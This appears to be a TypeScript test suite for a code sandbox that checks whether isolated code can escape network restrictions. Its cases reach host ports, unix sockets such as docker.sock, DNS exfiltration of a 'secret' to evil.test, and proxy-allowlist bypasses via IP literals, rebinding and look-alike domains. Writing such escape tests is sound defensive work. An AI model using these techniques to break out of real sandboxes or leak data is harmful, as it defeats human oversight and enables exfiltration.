import { once } from 'node:events';
import { chmodSync } from 'node:fs';
import { createConnection } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { startUnprotected } from '../../isolation/raw-syscalls.ts';
import { type Policy, tool } from '../attempt.ts';
import { type EscapeCase, STRONG } from '../escape-case.ts';
import { buffer, bytes, call, result, syscallTool, text } from '../raw-calls.ts';
import { listenDatagram, listenStream, type Sink } from '../sinks.ts';

const CODE = tool('run-code.mjs');
const ISOLATED = ['isolated'] as const;
/** The names of the tests lead to loopback: see `escape.test.ts`. */
const DOMAINS: Policy = {
  network: { allowedDomains: ['allowed.test', '*.wide.test', 'rebound.test'], deniedDomains: [] },
};

/** True when anything arrived at the sink. */
async function arrives(sink: Sink, attack: (port: number) => Promise<unknown>): Promise<boolean> {
  try {
    await attack(sink.port);
    await delay(50);
    return sink.count() > 0;
  } finally {
    sink.close();
  }
}

const connect = (options: string): string => `
  await new Promise((resolve) => {
    const socket = net.connect(${options}, () => resolve(1)).on('error', resolve);
    setTimeout(resolve, 800, 0);
  })`;

/** What the tool sends through its proxy by hand; the sink must see nothing of it. */
const throughProxy = (head: string): string => `
  const proxy = new URL(process.env.HTTP_PROXY ?? 'http://127.0.0.1:' + a.port);
  const auth = Buffer.from(decodeURIComponent(proxy.username + ':' + proxy.password)).toString('base64');
  const request = (${head}).replace('AUTH', 'Proxy-Authorization: Basic ' + auth);
  return await new Promise((resolve) => {
    let got = '';
    const socket = net.connect(Number(proxy.port), proxy.hostname, () => socket.write(request));
    socket.on('data', (chunk) => { got += chunk; if (/^HTTP.1.1 200/.test(got)) socket.write('GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n') });
    socket.on('error', resolve).on('close', () => resolve(got));
    setTimeout(resolve, 800, 0);
  })`;

/** Arrives at a sink of ours although its name or address is not allowed. */
function proxied(ids: EscapeCase['ids'], title: string, heads: readonly string[]): EscapeCase {
  return {
    ids,
    title,
    claimedBy: ISOLATED,
    needsNamespace: true,
    noControl: () =>
      'without a proxy there is nothing to lead astray; the sink is reached directly elsewhere',
    attempt: async (on) =>
      arrives(await listenStream(), async (port) => {
        for (const head of heads) await on.run(CODE, { code: throughProxy(head), port }, DOMAINS);
        const isRefused = on.egress.every(({ effect }) => effect === 'deny');
        if (on.egress.length === 0) throw new Error('the proxy was not asked');
        if (!isRefused) throw new Error(`allowed: ${JSON.stringify(on.egress)}`);
      }),
  };
}

const socketAddress = (path: string): string => bytes(1, 0, ...Buffer.from(`${path}\0`));

/** A datagram socket by path, of a process outside. */
async function listenPath(path: string) {
  const child = startUnprotected([
    call('socket', 1, 2, 0),
    call('bind', result(0), socketAddress(path), path.length + 3),
    call('chmod', text(path), 0o777),
    call('recvfrom', result(0), buffer(0), 100, 0, 0, 0),
  ]);
  let told = '';
  child.stdout.on('data', (chunk: Buffer) => {
    told += chunk.toString();
  });
  while (told.split('\n').length < 4) await once(child.stdout, 'data');
  return { child, got: () => told.trim().split('\n').length > 3 };
}

export const NETWORK_CASES: readonly EscapeCase[] = [
  {
    ids: ['net-16'],
    title: 'connects to a port of the host',
    claimedBy: STRONG,
    attempt: async (on) =>
      arrives(await listenStream(), (port) =>
        on.run(CODE, { code: connect('a.port, "127.0.0.1"'), port }),
      ),
  },
  {
    ids: ['net-16-proxy'],
    title: 'connects past the proxy that it was given',
    claimedBy: ISOLATED,
    needsNamespace: true,
    attempt: async (on) =>
      arrives(await listenStream(), (port) =>
        on.run(CODE, { code: connect('a.port, "127.0.0.1"'), port }, DOMAINS),
      ),
  },
  {
    ids: ['net-04'],
    title: 'sends a datagram',
    claimedBy: STRONG,
    attempt: async (on) =>
      arrives(await listenDatagram(), (port) => {
        const code = `const s = dgram.createSocket('udp4'); s.on('error', () => {});
          await new Promise((resolve) => { s.send('x', a.port, '127.0.0.1', resolve); setTimeout(resolve, 500) }); s.close()`;
        return on.run(CODE, { code, port });
      }),
  },
  {
    ids: ['net-05'],
    title: 'carries a secret away in a name that it looks up',
    claimedBy: STRONG,
    attempt: async (on) =>
      arrives(await listenDatagram(), (port) => {
        const code = `const r = new dns.promises.Resolver({ timeout: 300, tries: 1 }); r.setServers(['127.0.0.1:' + a.port]);
          try { await r.resolve4('secret.evil.test') } catch {}`;
        return on.run(CODE, { code, port });
      }),
  },
  {
    ids: ['net-07'],
    title: 'connects to a unix socket of the host by its path',
    claimedBy: STRONG,
    attempt: async (on) => {
      const path = on.path('docker.sock');
      const sink = await listenStream(path);
      chmodSync(path, 0o777);
      return arrives(sink, () => on.run(CODE, { code: connect('a.path'), path }));
    },
  },
  {
    ids: ['net-07-granted'],
    title: 'does so in a folder that it may read and write',
    claimedBy: STRONG,
    mayRefuse: true,
    attempt: async (on) => {
      const path = on.path('docker.sock');
      const sink = await listenStream(path);
      chmodSync(path, 0o777);
      const filesystem = { write: [on.folder] };
      return arrives(sink, () => on.run(CODE, { code: connect('a.path'), path }, { filesystem }));
    },
  },
  {
    ids: ['net-08'],
    title: 'connects to a unix socket of the host by its abstract name',
    claimedBy: STRONG,
    attempt: async (on) => {
      const path = `\0${on.token}`;
      return arrives(await listenStream(path), () =>
        on.run(CODE, { code: connect('"\\0" + a.token') }),
      );
    },
  },
  {
    ids: ['A4'],
    title: 'reaches a datagram socket of the host through a pair of sockets',
    claimedBy: STRONG,
    needs: ['gcc'],
    attempt: async (on) => {
      const path = on.path('log');
      const { child, got } = await listenPath(path);
      const sends = [3, 4, 5, 6].map((descriptor) =>
        call('sendto', descriptor, text('x'), 1, 0, socketAddress(path), path.length + 3),
      );
      for (const type of [2, 3]) {
        await on.run(syscallTool([call('socketpair', 1, type, 0, buffer(0)), ...sends]));
      }
      await delay(50);
      const arrived = got();
      child.kill('SIGKILL');
      return arrived;
    },
  },
  {
    ids: ['net-19'],
    title: 'opens a port on the host',
    claimedBy: STRONG,
    attempt: async (on) => {
      const port = 20_000 + (Number.parseInt(on.token.slice(2, 6), 16) % 10_000);
      const code = `net.createServer().on('error', () => {}).listen(a.port, '127.0.0.1'); await new Promise((resolve) => setTimeout(resolve, 700))`;
      const { report } = await on.start(CODE, { code, port });
      let isOpen = false;
      const over = report.then(() => true);
      while (!isOpen && !(await Promise.race([over, delay(20, false)])))
        isOpen = await canConnect(port);
      await report;
      return isOpen;
    },
  },
  {
    ids: ['net-18'],
    title: '`fetch` reaches a domain that the policy allows',
    claimedBy: STRONG,
    mustWork: true,
    noControl: () => 'the name only exists for the supervisor of the test',
    attempt: async (on) =>
      arrives(await listenStream(), (port) =>
        on.run(
          CODE,
          { code: 'return (await fetch("http://allowed.test:" + a.port)).status', port },
          DOMAINS,
        ),
      ),
  },
  {
    ids: ['net-17'],
    title: 'opens a socket of its own where it may only fetch',
    claimedBy: ['hardened'],
    attempt: async (on) =>
      arrives(await listenStream(), (port) =>
        on.run(CODE, { code: connect('a.port, "127.0.0.1"'), port }, DOMAINS),
      ),
  },
  {
    ids: ['net-17-command'],
    title: 'as a command gets a network where only `fetch` is allowed out',
    claimedBy: ['hardened'],
    mayRefuse: true,
    attempt: async (on) =>
      arrives(await listenStream(), (port) => {
        const code = `net.connect(${port}, '127.0.0.1').on('error', () => {})`;
        return on.run({ command: [process.execPath, '-e', code] }, {}, DOMAINS);
      }),
  },
  proxied(['net-11'], 'asks the proxy for an address instead of a name', [
    '"CONNECT 127.0.0.1:" + a.port + " HTTP/1.1\\r\\nHost: allowed.test\\r\\nAUTH\\r\\n\\r\\n"',
    '"CONNECT [::ffff:127.0.0.1]:" + a.port + " HTTP/1.1\\r\\nHost: allowed.test\\r\\nAUTH\\r\\n\\r\\n"',
    '"CONNECT 2130706433:" + a.port + " HTTP/1.1\\r\\nHost: allowed.test\\r\\nAUTH\\r\\n\\r\\n"',
    '"GET http://0x7f.1:" + a.port + "/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nAUTH\\r\\n\\r\\n"',
  ]),
  proxied(['net-12'], 'uses an allowed name that leads to a forbidden address', [
    '"CONNECT rebound.test:" + a.port + " HTTP/1.1\\r\\nHost: rebound.test\\r\\nAUTH\\r\\n\\r\\n"',
    '"GET http://rebound.test:" + a.port + "/ HTTP/1.1\\r\\nHost: rebound.test\\r\\nAUTH\\r\\n\\r\\n"',
  ]),
  proxied(['net-13'], 'names one host in its request and another in its header', [
    '"GET http://evil.test:" + a.port + "/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nAUTH\\r\\n\\r\\n"',
    '"CONNECT evil.test:" + a.port + " HTTP/1.1\\r\\nHost: allowed.test\\r\\nAUTH\\r\\n\\r\\n"',
  ]),
  proxied(['net-14'], 'uses names that only look like allowed ones', [
    ...[
      'allowed.test.evil.test',
      'notallowed.test',
      'wide.test',
      'xwide.test',
      'a.wide.test.evil.test',
    ].map(
      (name) =>
        `"CONNECT ${name}:" + a.port + " HTTP/1.1\\r\\nHost: ${name}\\r\\nAUTH\\r\\n\\r\\n"`,
    ),
  ]),
];

function canConnect(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = createConnection(port, '127.0.0.1', () => resolve(true));
    socket.on('error', () => resolve(false));
    socket.on('connect', () => socket.destroy());
  });
}
